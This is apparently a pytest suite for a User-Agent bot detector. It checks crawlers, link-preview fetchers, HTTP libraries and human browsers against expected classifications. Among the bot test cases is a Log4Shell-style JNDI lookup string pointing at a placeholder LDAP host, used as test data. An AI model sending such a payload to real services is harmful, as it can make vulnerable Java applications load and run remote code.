"""Who says that he is a bot, and who does not."""

import json
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bench.user_agents import Agent
from waypost.resources.clicks.intake.bots import (
    REPLACED_PATTERNS,
    UNUSED_PATTERNS,
    Bot,
    detect_bot,
    listed_patterns,
    used_patterns,
)

CLIENTS = {
    *("[wW]get", "Python-urllib", "python-requests", "aiohttp", "httpx", "libwww-perl", "httpunit", "Go-http-client"),
    *("Pcore-HTTP", "okhttp", "AHC\\/", "^Apache-HttpClient", "Jetty", "http_get", "BTWebClient", "axios", "AnyEvent"),
    *("Amazon CloudFront", "HttpUrlConnection", "^curl", "^PHP-Curl-Class", "node-fetch", "sindresorhus\\/got"),
    *("ALittle Client", "[mM]echanize", "CustomAsyncHttpClient", "^HTTPie\\/", "lwp-trivial"),
}
"""What the package calls HTTP libraries and anyone runs who follows a link."""

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"

SCRAPERS = {
    *("phpcrawl", "HTTrack", "SimpleCrawler", "crawler4j", "Scrapy", "newspaper\\/", "python-opengraph", "colly"),
    *("Salesforce\\.com", "trafilatura", "Download Ninja", "GoParserBot", "larbin", "rawweb-bot"),
}
"""What it calls so and is made for fetching many pages."""


def entries() -> list[dict[str, Any]]:
    spec = find_spec("crawleruseragents")
    assert spec
    assert spec.origin
    return json.loads((Path(spec.origin).parent / "crawler-user-agents.json").read_text())


def test_recognizes_crawlers_previews_and_people() -> None:
    googlebot = b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    assert detect_bot(googlebot) == Bot("Googlebot", "crawler")
    assert detect_bot(b"facebookexternalhit/1.1") == Bot("facebookexternalhit", "preview")
    assert detect_bot(b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0") is None


def test_classifies_the_sample_mix(mix: list[Agent]) -> None:
    """Two thousand, of which six in seven are people."""
    reported = {agent.raw: detect_bot(agent.raw) for agent in mix}
    expected = {agent.raw: Bot(agent.bot, agent.kind) if agent.bot else None for agent in mix}
    assert {raw: (reported[raw], expected[raw]) for raw in reported if reported[raw] != expected[raw]} == {}


def test_recognizes_every_example_of_the_package() -> None:
    used = [entry for entry in entries() if entry["pattern"] not in UNUSED_PATTERNS]
    missed = [text for entry in used for text in entry["instances"] if not detect_bot(text.encode())]
    assert missed == []
    assert len(used) > 1_400


def test_excluded_patterns_exist_in_the_package() -> None:
    """An update that takes in another HTTP client, or takes one out, shows here."""
    listed = dict(listed_patterns())
    assert UNUSED_PATTERNS | set(REPLACED_PATTERNS) <= set(listed)
    assert {pattern for pattern, tags in listed.items() if "http-library" in tags} == CLIENTS | SCRAPERS
    assert CLIENTS <= UNUSED_PATTERNS
    assert not SCRAPERS & UNUSED_PATTERNS
    assert len(list(used_patterns())) == len(listed_patterns()) - len(UNUSED_PATTERNS)


@pytest.mark.parametrize(
    "user_agent",
    [
        *("curl/8.5.0", "Wget/1.21.4", "python-requests/2.32.3", "Go-http-client/2.0", "okhttp/4.12.0", "axios/1.7.7"),
        *("Java/17.0.12", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "libwww-perl/6.72", "HTTPie/3.2.3"),
        *(
            "PostmanRuntime/7.42.0",
            "Python/3.12 aiohttp/3.10.5",
            "python-httpx/0.27.2",
            "Amazon CloudFront",
            "Dart/3.5",
        ),
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/142.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 SogouMobileBrowser/5.2",
        "Mozilla/5.0 (Macintosh) AppleWebKit/537.36 Notion/4.2.0 Chrome/130.0 Electron/33.2 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 PayPal/8.80.0",
        f"{WINDOWS} AppleWebKit/537.36 (KHTML, like Gecko) Zulip/5.11 Chrome/126.0 Electron/31.2.0 Safari/537.36",
        f"{WINDOWS} AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.39 Chrome/126.0 Electron/31.2 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; wv) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36 WhatsApp/2.25",
        "Mozilla/5.0 (Linux; Android 9; Cubot) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; Cubot; wv) AppleWebKit/537.36 Version/4.0 Chrome/142.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; Cubot Build/PPR1.180610.011) AppleWebKit/537.36 Chrome/142.0 Mobile",
        "Dalvik/2.1.0 (Linux; U; Android 9; Cubot Build/PPR1.180610.011)",
        "",
    ],
)
def test_people_and_their_programs_are_no_bots(user_agent: str) -> None:
    assert detect_bot(user_agent.encode()) is None


def test_what_people_send_is_no_bot() -> None:
    lines = (Path(__file__).parents[3] / "visitors" / "cases" / "user_agents.jsonl").read_text().splitlines()
    sent = [json.loads(line)["user_agent"] for line in lines]
    assert {text: bot for text in sent if (bot := detect_bot(text.encode()))} == {}


@pytest.mark.parametrize("pattern", REPLACED_PATTERNS)
def test_words_in_names_of_phones_and_apps(pattern: str) -> None:
    """As the name of a phone, and of an app behind the browser's own name."""
    word = pattern.replace("\\", "")
    app = f" {word}8.1" if word.endswith("/") else ""
    phone = word.rstrip("/")
    text = f"Mozilla/5.0 (Linux; Android 9; {phone} 5) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36{app}"
    assert detect_bot(text.encode()) is None


@pytest.mark.parametrize(
    ("user_agent", "bot"),
    [
        (b"WhatsApp", Bot("WhatsApp", "preview")),
        (b"Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)", Bot("Valve/Steam", "preview")),
        (b"Misskey/2024.5.0 (https://misskey.example)", Bot("Misskey", "preview")),
        (b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com)", Bot("Yahoo! Slurp", "crawler")),
        (b"MyOwnCrawler/1.0 (+https://me.example)", Bot("MyOwnCrawler", "crawler")),
        (b"Mozilla/5.0 (compatible; MyOwnBot; +https://me.example)", Bot("MyOwnBot", "crawler")),
        (b"Mozilla/5.0 (compatible;MyOwnBot; en)", Bot("MyOwnBot", "crawler")),
        (b"Mozilla/5.0 (MyOwnSpider; me@me.example)", Bot("MyOwnSpider", "crawler")),
        (b"Mozilla/5.0 (X11; MyOwnBot; https://me.example)", Bot("MyOwnBot", "crawler")),
        (b"MyOwnBot", Bot("MyOwnBot", "crawler")),
        (b"pulsepoint Pulsepoint x", Bot("Pulsepoint", "crawler")),
        (b"AcmeReport/2.1 (ops@acme.example)", Bot("AcmeReport", "crawler")),
        (b"Acme Status 2.0", Bot("Acme Status 2.0", "crawler")),
        (b"Mozilla/5.0 (compatible; AcmeReport/1.0) AppleWebKit/537.36 Chrome/124.0", Bot("AcmeReport", "crawler")),
        (
            b"Mozilla/5.0 (X11) AppleWebKit/537.36 Chrome/120 (+https://acme.example/x)",
            Bot("acme.example", "crawler"),
        ),
        (b"Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/142.0 AcmeChecker", Bot("AcmeChecker", "crawler")),
        (
            b"Mozilla/5.0 (Macintosh) AppleWebKit/537.36 (KHTML, like Gecko; Acme Status) Safari/9",
            Bot("Acme Status", "crawler"),
        ),
        (b"Mozilla/5.0 AcmeStatus", Bot("AcmeStatus", "crawler")),
        (b"${jndi:ldap://acme.example/x}", Bot("Robot", "crawler")),
    ],
)
def test_names_bots(user_agent: bytes, bot: Bot) -> None:
    assert detect_bot(user_agent) == bot


@given(st.binary(max_size=9_000))
def test_accepts_any_bytes(user_agent: bytes) -> None:
    bot = detect_bot(user_agent)
    assert bot is None or (bot.kind in {"crawler", "preview"} and bot.name.isprintable())


def test_a_name_is_bounded() -> None:
    bot = detect_bot(b"Current \0\x01" + b"x" * 300 + b" RSS Reader")
    assert bot
    assert bot.name.isprintable()
    assert 0 < len(bot.name) <= 100


def test_examines_the_start_of_a_user_agent() -> None:
    """What comes after half a kilobyte is not looked at, so eight cost no more."""
    assert detect_bot(b"x" * 8_000 + b" Googlebot/2.1") is None
